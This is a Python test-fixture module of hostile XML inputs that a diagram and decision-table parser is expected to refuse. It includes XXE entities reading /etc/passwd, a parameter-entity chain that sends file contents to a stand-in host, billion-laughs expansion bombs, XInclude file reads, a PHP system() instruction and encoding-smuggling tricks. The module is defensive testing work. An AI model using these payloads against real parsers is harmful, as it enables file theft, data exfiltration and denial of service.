"""Diagrams and tables that reach out, expand, hide or hurt a parser: bytes, and the rule by which each is refused."""

import gzip

from tests.make.dmn_files import dmn_file, table
from tests.make.small_diagrams import diagram, end, path, start, user

ELSEWHERE = "http://127.0.0.1:9/x"
"""Nobody listens there; who counts puts an address in its place at which somebody does."""
SECRET = "file:///etc/passwd"
PLAIN = diagram(start(), user("a"), end(), path("start", "a", "end"))
BODY = PLAIN.partition(b"?>")[2]


def with_head(head, body=BODY):
    """Return a diagram with something between its declaration and its root."""
    return b'<?xml version="1.0" encoding="UTF-8"?>' + head + body


def inside(what, body=PLAIN):
    """Return a diagram with something at the end of its process."""
    return body.replace(b"</bpmn:process>", what + b"</bpmn:process>")


def in_encoding(name, codec):
    """Return a diagram in another encoding, which it declares."""
    return (f'<?xml version="1.0" encoding="{name}"?>' + BODY.decode()).encode(codec, "replace")


BOMB = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]>'
LAUGHS = b"<!DOCTYPE x [<!ENTITY l0 'ha'>" + b"".join(b"<!ENTITY l%d '%s'>" % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10)) + b"]>"  # fmt: skip
DOCTYPE = {
    "external entity": with_head(b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
    "external entity that is used": with_head(b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', BODY.replace("名a".encode(), b"&e;")),
    "entity on the network": with_head(f'<!DOCTYPE x [<!ENTITY e SYSTEM "{ELSEWHERE}">]>'.encode(), BODY.replace("名a".encode(), b"&e;")),
    "public entity": with_head(f'<!DOCTYPE x [<!ENTITY e PUBLIC "-//X//Y" "{ELSEWHERE}">]>'.encode()),
    "parameter entity": with_head(f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{ELSEWHERE}"> %p;]>'.encode()),
    "parameter entity that tells": with_head(f'<!DOCTYPE x [<!ENTITY % f SYSTEM "{SECRET}"><!ENTITY % a "<!ENTITY &#37; s SYSTEM \'{ELSEWHERE}?%f;\'>">%a;%s;]>'.encode()),
    "entities within entities": with_head(BOMB),
    "a billion laughs": with_head(LAUGHS, BODY.replace("名a".encode(), b"&l9;")),
    "one entity, very long, very often": with_head(b'<!DOCTYPE x [<!ENTITY a "' + b"x" * 50_000 + b'">]>', BODY.replace("名a".encode(), b"&a;" * 20_000)),
    "entity in an attribute": with_head(b'<!DOCTYPE x [<!ENTITY e "=1">]>', BODY.replace(b'"people"', b'"&e;"')),
    "doctype on the network": with_head(f'<!DOCTYPE x SYSTEM "{ELSEWHERE}">'.encode()),
    "doctype in a file": with_head(b'<!DOCTYPE x SYSTEM "file:///dev/zero">'),
    "doctype in small letters": with_head(b"<!doctype x>"),
    "doctype with spaces": with_head(b"<! DOCTYPE x>"),
    "doctype on many lines": with_head(b"<!\n\n\nDOCTYPE\n x>"),
    "doctype behind a comment": with_head(b"<!-- --><!DOCTYPE x>"),
    "doctype that gives attributes": with_head(b'<!DOCTYPE x [<!ATTLIST x y CDATA "z">]>'),
    "notation": with_head(b'<!DOCTYPE x [<!NOTATION n SYSTEM "cmd.exe"><!ENTITY e SYSTEM "a" NDATA n>]>'),
    "entity without a doctype": with_head(b'<!ENTITY e "x">'),
    "doctype hidden in text": inside(b"<![CDATA[<!DOCTYPE x>]]>"),
}  # fmt: skip
ENCODING = {
    "UTF-16": BODY.decode().encode("utf-16"),
    "UTF-16 without a mark": (('<?xml version="1.0" encoding="UTF-16"?>' + BODY.decode()).encode("utf-16-le")),
    "UTF-16, big end first": b"\xfe\xff" + BODY.decode().encode("utf-16-be"),
    "UTF-32": BODY.decode().encode("utf-32"),
    "UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-' + BODY,
    "UTF-7 in small letters": b"<?xml version='1.0' encoding='utf-7'?>+ADwAIQ-ENTITY x+AD4-" + BODY,
    "UTF-8 that is UTF-7": b'\xef\xbb\xbf<?xml version="1.0" encoding="UTF-7"?>' + BODY,
    "EBCDIC": in_encoding("cp037", "cp037"),
    "EBCDIC that is declared": b'<?xml version="1.0" encoding="cp037"?>' + BODY,
    "GBK": in_encoding("GBK", "gbk"),
    "GB18030": in_encoding("GB18030", "gb18030"),
    "Shift JIS": b'<?xml version="1.0" encoding="Shift_JIS"?>' + BODY,
    "no encoding there is": b'<?xml version="1.0" encoding="x-no-such"?>' + BODY,
    "a NUL": with_head(b"<!-- \x00 -->"),
    "broken bytes": with_head(b"<!-- \xff\xfe\xfa -->"),
    "a slash in too many bytes": with_head(b"<!-- \xc0\xaf -->"),
    "packed": gzip.compress(PLAIN),
    "half a pair": with_head(b"<!-- \xed\xa0\x80 -->"),
}  # fmt: skip
SYNTAX = {
    "nothing": b"",
    "a mark alone": b"\xef\xbb\xbf",
    "no XML": b"%PDF-1.7",
    "JSON": b'{"type":"default","components":[]}',
    "an end too early": PLAIN[: len(PLAIN) // 2],
    "two roots": PLAIN + BODY,
    "text behind the root": PLAIN + b"x",
    "an unknown entity": inside(b"&nbsp;"),
    "a prefix of nobody": inside(b"<evil:a/>"),
    "an attribute twice": inside(b'<a b="1" b="2"/>'),
    "a control character": inside(b"&#1;"),
    "a character that is none": inside(b"&#xFFFF;"),
    "a number of a character without an end": inside(b"&#x" + b"9" * 5_000 + b";"),
    "far too deep": b"<a>" * 100_000,
    "a name without an end": b"<" + b"a" * 1_500_000,
}
SIZE = {
    "too many bytes": with_head(b"<!--" + b"x" * 2_100_000 + b"-->"),
    "too many elements": inside(b"<a/>" * 21_000),
    "too deep in two ways": inside(b"<a>" * 40 + b"<b/>" * 9 + b"<a>" * 50 + b"</a>" * 90),
    "too deep": inside(b"<a>" * 90 + b"</a>" * 90),
}
"""Each is refused by the rule of its kind."""
HOSTILE_XML = {
    **{name: (text, "xml-doctype") for name, text in DOCTYPE.items()},
    **{name: (text, "xml-encoding") for name, text in ENCODING.items()},
    **{name: (text, "xml-syntax") for name, text in SYNTAX.items()},
    **{name: (text, "xml-size") for name, text in SIZE.items()},
    "many attributes": (b"<a " + b" ".join(b'x%d=""' % i for i in range(150_000)) + b"/>", "no-process"),
    "many namespaces": (b"<a " + b" ".join(b'xmlns:x%d="urn:%d"' % (i, i) for i in range(20_000)) + b"/>", "no-process"),
}  # fmt: skip
XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
NEUTRAL_XML = {
    "inclusion of a file": inside(f'<xi:include {XI} href="/etc/passwd" parse="text"/>'.encode()),
    "inclusion of an address": inside(f'<xi:include {XI} href="{ELSEWHERE}"/>'.encode()),
    "style sheet": with_head(f'<?xml-stylesheet href="{ELSEWHERE}"?><!-- <bpmn:scriptTask/> -->'.encode()),
    "instruction to a server": with_head(b"<?php system('touch /tmp/owned') ?>"),
    "place of a schema": PLAIN.replace(b"targetNamespace", f'xsi:schemaLocation="urn:x {ELSEWHERE}" targetNamespace'.encode()),
    "base elsewhere": PLAIN.replace(b"targetNamespace", f'xml:base="{ELSEWHERE}" targetNamespace'.encode()),
    "import of another diagram": PLAIN.replace(b"<bpmn:process ", f'<bpmn:import importType="http://www.omg.org/spec/BPMN/20100524/MODEL" location="{ELSEWHERE}" namespace="urn:x"/><bpmn:process '.encode()),
}  # fmt: skip
"""What may be refused or taken, as long as nothing comes of it."""
DECISIONS = dmn_file('<decision id="d" name="d">', table("1 -> 2"), "</decision>")


def as_table(data):
    """Return what attacks a diagram as an attack on a table: the same head and encoding around a decision."""
    return data.replace(BODY, DECISIONS)
